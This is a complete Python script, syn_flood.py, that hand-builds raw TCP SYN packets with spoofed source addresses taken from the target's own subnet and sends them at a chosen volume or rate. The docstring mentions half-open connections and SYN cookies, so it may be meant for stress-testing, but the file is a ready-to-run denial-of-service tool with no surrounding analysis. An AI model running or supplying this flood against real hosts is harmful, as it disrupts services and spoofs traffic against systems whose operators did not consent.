#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""SYNs from addresses where nobody is: they stay half open, or are answered by cookies.

    syn_flood.py HOST PORT COUNT [SECONDS]   COUNT SYNs at once, or that many a second for SECONDS

IPv4; the sources are the host's network, .16 to .250. Prints how many were sent.
"""
import random
import socket
import struct
import sys
import time


def sum16(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def syn(source, host, from_port, to_port, number):
    options = struct.pack("!BBHBBBBIIBBB", 2, 4, 1460, 4, 2, 8, 10, number, 0, 1, 3, 3) + b"\x07"
    head = struct.pack("!HHIIBBHHH", from_port, to_port, number, 0, (20 + len(options)) // 4 << 4, 2, 65535, 0, 0)
    pseudo = source + host + struct.pack("!BBH", 0, 6, len(head) + len(options))
    total = sum16(pseudo + head + options)
    tcp = head[:16] + struct.pack("!H", total) + head[18:] + options
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), number & 0xffff, 0, 64, 6, 0, source, host) + tcp


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    host, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    end = time.monotonic() + (float(sys.argv[4]) if len(sys.argv) > 4 else 0)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, begun = 0, time.monotonic()
    while sent < count or time.monotonic() < end:
        source = host[:3] + bytes([random.randrange(16, 251)])
        try:
            out.sendto(syn(source, host, random.randrange(1024, 65536), port, random.getrandbits(32)), (sys.argv[1], 0))
        except OSError:  # the interface's queue is full
            time.sleep(0.001)
            continue
        sent += 1
        ahead = sent / count - (time.monotonic() - begun)
        if len(sys.argv) > 4 and ahead > 0.005:
            time.sleep(ahead)
    print("%d SYNs" % sent)


if __name__ == "__main__":
    main()
